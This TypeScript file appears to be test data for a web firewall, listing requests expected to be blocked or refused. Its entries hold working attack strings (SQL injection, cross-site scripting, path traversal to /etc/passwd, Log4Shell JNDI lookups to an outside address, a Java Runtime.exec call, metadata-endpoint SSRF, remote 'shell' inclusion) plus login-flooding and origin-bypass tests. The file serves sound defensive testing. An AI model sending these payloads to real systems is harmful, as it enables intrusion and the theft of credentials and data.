import { blocked, type RequestGroup, refused } from "../request";

const FORM = { "content-type": "application/x-www-form-urlencoded" };
const JSON_BODY = { "content-type": "application/json" };

/** Attacks on each part of a request. */
export const ATTACKS: RequestGroup = {
  name: "Attacks",
  requests: [
    blocked("suspicious-body", "SQL injection into the sign-in", {
      method: "POST",
      url: "/api/identity/login",
      headers: FORM,
      body: { text: "user=admin%27+OR+1%3D1+--&password=x" },
    }),
    blocked("sql-injection", "SQL injection into the search", {
      url: "/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--",
    }),
    blocked("sql-injection", "blind SQL injection into the query of an upload", {
      method: "POST",
      url: "/api/media/uploads?id=1%20AND%20pg_sleep(9)",
    }),
    blocked("sql-injection", "SQL injection in a cookie", { url: "/", headers: { cookie: "sort=' or 1=1" } }),
    blocked("common", "a script in the search", { url: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }),
    blocked("common", "a script in the query of an upload", {
      method: "POST",
      url: "/api/courses/packages?name=%3Cimg%20src%3Dx%20onerror%3Dx%3E",
    }),
    blocked("suspicious-body", "a script in a profile", {
      method: "PATCH",
      url: "/api/identity/profile",
      headers: JSON_BODY,
      body: { text: '{"name": "<script>fetch(1)</script>"}' },
    }),
    blocked("common", "a path that climbs out", { url: "/static/../../../etc/passwd" }),
    blocked("common", "a path that climbs out, encoded", { url: "/static/%2e%2e/%2e%2e/etc/passwd" }),
    blocked("common", "a file of the system in the query", { url: "/courses/7/file?path=../../../../etc/passwd" }),
    blocked("common", "an upload's path left by ..", {
      method: "POST",
      url: "/api/courses/lessons/%2e%2e/%2e%2e/identity/profile",
      headers: JSON_BODY,
      body: { text: "<script>x</script>" },
    }),
    blocked("suspicious-body", "a path that only begins as that of an upload", {
      method: "POST",
      url: "/api/media/uploads-old",
      headers: JSON_BODY,
      body: { text: "<script>x</script>" },
    }),
    blocked("system-file", "the log of a server", { url: "/storage/logs/app.log" }),
    blocked("known-bad-inputs", "the settings of a Java server", { url: "/WEB-INF/web.xml" }),
    blocked("known-bad-inputs", "Log4Shell in a header", {
      url: "/",
      headers: { "x-api-version": "$" + "{jndi:ldap://203.0.113.9/a}" },
    }),
    blocked("suspicious-body", "Log4Shell in the sign-in", {
      method: "POST",
      url: "/login",
      headers: FORM,
      body: { text: "user=$" + "{jndi:ldap://203.0.113.9/a}" },
    }),
    blocked("suspicious-body", "React2Shell in a form", {
      method: "POST",
      url: "/",
      headers: JSON_BODY,
      body: { text: '{"then": "$1:__proto__:then"}' },
    }),
    blocked("known-bad-inputs", "a deserialization of Java in the query", {
      url: "/?x=((java.lang.Runtime).getRuntime()).exec(%22id%22)",
    }),
    blocked("common", "the instance's credentials by a link", {
      url: "/api/courses/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data",
    }),
    blocked("common", "a file of another server by a link", { url: "/page?include=http%3A%2F%2F198.51.100.7%2Fshell" }),
    {
      name: "PROPFIND",
      request: { method: "PROPFIND", url: "/" },
      expected: { block: "site blocks: known-bad-inputs", count: "CloudFront refuses: method" },
    },
    blocked("common", "a scanner that names itself", { url: "/", headers: { "user-agent": "nmap scripting engine" } }),
    blocked("ip-reputation", "an address of bad repute", { url: "/", from: { kind: "attacker" } }),
    blocked("large-body", "a body of 50 MB into the sign-in", {
      method: "POST",
      url: "/api/identity/login",
      headers: FORM,
      body: { text: "user=a", bytes: 50_000_000 },
    }),
    blocked("large-body", "a body of 5 GB into the search", {
      method: "POST",
      url: "/search",
      body: { text: "", bytes: 5_000_000_000 },
    }),
    blocked("long-query", "a query of 6 KB", { url: `/search?q=${"a".repeat(6_000)}` }),
    blocked("common", "a path of 2 KB", { url: `/${"a".repeat(2_000)}` }),
    blocked("common", "cookies of 12 KB", { url: "/", headers: { cookie: `a=${"x".repeat(12_000)}` } }),
    blocked("rate-of-logins", "stolen passwords, 5,000 from one address", {
      method: "POST",
      url: "/api/identity/login",
      from: { requests: 5_000 },
    }),
    blocked("rate", "a copy of the whole site, 100,000 pages", { url: "/courses/7", from: { requests: 100_000 } }),
    blocked("rate", "the same with a forged X-Forwarded-For in each", {
      url: "/courses/7",
      headers: { "x-forwarded-for": "203.0.113.77" },
      from: { requests: 100_000 },
    }),
  ],
};

/** Requests that the firewall lets through and that end before the application all the same. */
export const WAYS_AROUND: RequestGroup = {
  name: "Ways around",
  requests: [
    refused("listener refuses", "the load balancer, asked directly", { url: "/courses/7", entrance: "origin" }),
    refused("listener refuses", "the load balancer, asked directly with a guessed header", {
      url: "/courses/7",
      entrance: "origin",
      headers: { "x-origin-verify": "00000000-0000-4000-8000-000000000000" },
    }),
    refused("listener refuses", "the load balancer, asked directly for a sign-in", {
      method: "POST",
      url: "/healthz",
      entrance: "origin",
    }),
    refused("passes", "the health of the application, asked directly", { url: "/healthz", entrance: "origin" }),
    refused("CloudFront refuses: not signed", "a video without a signature", { url: "/media/transcoded/7/video.m3u8" }),
    refused("CloudFront refuses: method", "a write to a static file", { method: "PUT", url: "/static/app.js" }),
    refused("CloudFront refuses: method", "a delete of a video", {
      method: "DELETE",
      url: "/media/uploads/1.mp4",
      signed: true,
    }),
    {
      name: "an attack on the load balancer, asked directly",
      request: { url: "/search?q=%27%20UNION%20SELECT%20a%20FROM%20b%20", entrance: "origin" },
      expected: { block: "load balancer blocks: sql-injection", count: "listener refuses" },
    },
    blocked("support-id", "the id that a refused person sees", { url: "/support-id" }),
  ],
};
